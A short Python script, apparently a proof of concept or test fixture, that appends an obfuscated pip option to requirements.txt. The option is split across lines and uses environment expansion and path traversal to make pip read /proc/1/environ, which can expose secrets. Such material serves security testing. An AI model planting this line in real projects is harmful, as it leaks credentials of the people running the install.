from pathlib import Path

with Path("requirements.txt").open("a") as requirements:
    requirements.write("--requireme\\\nnt=${HOME}/../proc/1/environ\n")
